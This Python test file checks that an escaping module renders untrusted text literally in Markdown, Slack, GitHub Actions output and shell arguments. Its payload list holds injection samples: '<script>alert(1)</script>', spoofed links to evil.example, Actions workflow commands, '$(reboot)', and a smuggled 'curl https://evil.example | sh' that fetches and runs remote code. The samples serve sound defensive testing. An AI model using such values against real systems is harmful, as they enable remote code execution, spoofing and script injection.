"""Whatever people, logs and vendors write is shown as they wrote it, at each destination."""

import html
import re
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from playbook.messages.escape import (
    NO_MENTION,
    actions_data,
    actions_text,
    code_block,
    code_span,
    markdown,
    one_line,
    shell,
    slack_text,
)

RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
PAYLOADS = {
    "a mention of everyone, and a link that shows another": "<!channel> <https://evil.example|https://prefect.example>",
    "a mention of a person": "<@U012AB3CD> look",
    "an image": "![cat](https://evil.example/track.png)",
    "a link": "[https://prefect.example](https://evil.example)",
    "a reference": "[a]: https://evil.example",
    "an autolink": "<https://evil.example>",
    "the end of what is folded": "</details></td><script>alert(1)</script>",
    "a cell and a row of a table": "a | b\n| c | d |",
    "a heading": "# Outage over",
    "a list": "- [x] approved",
    "a numbered list": "1. approved",
    "a quotation": "> approved",
    "a command in the middle of a line": "no approval ##[add-mask]Reverted",
    "code": "`` ` `` ```\ncode\n```",
    "emphasis": "**bold** _under_ __x__ ~~gone~~",
    "an entity": "&lt;b&gt; &amp; &copy;",
    "a formula": "$x$ $$y$$",
    "a command of GitHub Actions": "::add-mask::hunter2",
    "the older form of one": "##[add-mask]hunter2",
    "one on a line of its own": "done\r\n::set-output name=x::y",
    "a second command": "backend; curl https://evil.example | sh",
    "a substitution": "$(reboot) `reboot` ${HOME}",
    "a quote": "it's \"quoted\" \\' here",
    "no letters": "\x00\x1b[31m\x7f\u2028",
}
TEXT = st.one_of(
    st.sampled_from(list(PAYLOADS.values())), st.text(alphabet="ab1 .<>&*_`[]()!|#-+~$\\@:/\n", max_size=40)
)


def shown(rendered: str) -> str:
    """The text of HTML that holds nothing but one paragraph."""
    found = re.fullmatch(r"(?:<p>(.*)</p>\n)?", rendered, re.S)
    assert found, rendered
    text = found[1] or ""
    assert "<" not in text, rendered
    return html.unescape(text).replace(NO_MENTION, "")


@given(TEXT)
def test_markdown_shows_the_text_and_nothing_else(text: str) -> None:
    """One paragraph without a tag in it, whose text is what was written."""
    assert shown(RENDER.render(markdown(text))) == one_line(text)


@given(TEXT)
def test_a_cell_of_a_table_stays_one_cell(text: str) -> None:
    """Whatever is in it, the row has two cells, and the first one shows the text."""
    rendered = RENDER.render(f"| a | b |\n|---|---|\n| {markdown(text)} | end |")
    cells = re.findall(r"<td>(.*?)</td>", rendered, re.S)
    assert [html.unescape(cell).replace(NO_MENTION, "") for cell in cells] == [one_line(text), "end"]


@given(TEXT)
def test_code_shows_the_text_and_nothing_else(text: str) -> None:
    """Within a line and as a block: no backticks in it end the code."""
    line = one_line(text)
    if line:
        rendered = RENDER.render(code_span(text))
        assert re.fullmatch(r"<p><code>[^<]*</code></p>\n", rendered), rendered
        assert html.unescape(rendered[9:-12]).strip() == line.strip()
    assert RENDER.render(code_block(text)).count("<code>") == 1
    assert html.unescape(RENDER.render(code_block(text))).count("</code>") - text.count("</code>") == 1


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_slack_shows_the_text(text: str) -> None:
    """Slack's three characters are escaped, so nothing in it is a mention or a link with another name."""
    escaped = slack_text(text)
    assert not re.search(r"[<>]", escaped)
    assert html.unescape(html.unescape(escaped)) == html.unescape(text)
    assert slack_text("5 & 6") == "5 &amp; 6"


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_github_actions_obeys_no_line_of_it(text: str) -> None:
    """It is one line, and holds no command; in a command's data it cannot end the command. The runner looks for the
    older form anywhere in a line."""
    line = actions_text(text)
    assert not re.search(r"[\r\n]", line)
    assert not line.lstrip().startswith("::")
    assert "##[" not in line
    assert not re.search(r"[\r\n]", actions_data(text))


@given(st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=40))
def test_a_shell_takes_it_as_one_word(text: str) -> None:
    """`; curl …` is no second command."""
    assert shlex.split(f"gcloud {shell(text)} end") == ["gcloud", text, "end"]


def test_a_mention_on_github_notifies_no_team() -> None:
    """An address keeps its form, and the @ cannot be seen to be followed by anything."""
    assert markdown("ask @geoaziz/owners") == f"ask @{NO_MENTION}geoaziz/owners"
